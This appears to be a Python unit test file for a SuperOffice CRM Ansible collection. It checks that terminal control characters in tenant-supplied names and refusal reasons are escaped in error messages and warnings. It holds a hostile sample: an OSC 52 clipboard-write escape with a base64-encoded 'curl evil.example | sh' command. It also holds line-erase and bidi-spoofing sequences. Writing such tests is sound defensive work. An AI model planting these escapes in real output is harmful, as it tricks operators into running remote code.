# -*- coding: utf-8 -*-
# Copyright (c) 2026, superoffice.crm contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

# Terminal control characters in tenant text (names, refusal reasons): the messages and warnings ansible-core prints raw
# show them as visible escapes, the result data keeps them verbatim (review F13).

import re

from ansible_collections.superoffice.crm.tests.unit.plugins.emulated import state, tenant_run

OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'  # a terminal escape: "write 'curl evil.example | sh' to the clipboard"
# C0 controls but \n and \t, DEL, C1 controls, bidi overrides and isolates: what may not reach a terminal raw.
RAW_CONTROL = re.compile('[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]')


def test_tenant_text_in_a_message_carries_no_terminal_escape(demo_tenant, run_module):
    """Found by review (F13): a connection name and a refusal reason with terminal escapes (OSC 52 clipboard write, ESC [2K
    line erase) reached the operator's terminal raw (ansible-core prints msg in its "[ERROR]: Task failed: Module failed:"
    line, and warnings)."""
    store, options = demo_tenant
    rename = tenant_run(run_module, options, dict(connections=[dict(id=2, name='Pilot' + OSC52)]))
    assert not rename.get('failed'), rename.get('msg')
    store.set_toggle_failures({'2': ['\x1b[2K\rall good' + OSC52 + ' \u202egnp.exe\u202c \x9b31m']})
    result = tenant_run(run_module, options, dict(connections=[dict(id=2, active=True)]))
    assert result.get('failed') is True
    assert not RAW_CONTROL.search(result['msg']), repr(result['msg'][:300])
    # Shown, not dropped: the operator sees what the tenant wrote.
    assert '\\x1b[2K\\x0dall good\\x1b]52;c;' in result['msg'] and '\\x07' in result['msg'], result['msg']
    assert '\\u202egnp.exe\\u202c \\x9b31m' in result['msg'], result['msg']
    # The data stays as the tenant has it (messages and diffs are escaped: test_go_live_edges).
    assert result['connections'][0]['name'] == 'Pilot' + OSC52
    assert [c['DisplayName'] for c in state(store)['connections'] if c['ErpConnectionId'] == 2] == ['Pilot' + OSC52]


def test_a_warning_with_tenant_text_carries_no_terminal_escape(demo_tenant, run_module):
    """A warning that names a connection the tenant named with escapes (here: a move to another connector)."""
    store, options = demo_tenant
    rename = tenant_run(run_module, options, dict(connections=[dict(id=2, name='Pilot' + OSC52)]))
    assert not rename.get('failed'), rename.get('msg')
    result = tenant_run(run_module, options, dict(connections=[dict(id=2, connector='SAP Business One')]), check_mode=True)
    assert result.get('warnings'), result
    assert not [w for w in result['warnings'] if RAW_CONTROL.search(w)], result['warnings']
    assert any('\\x1b]52;c;' in w for w in result['warnings']), result['warnings']
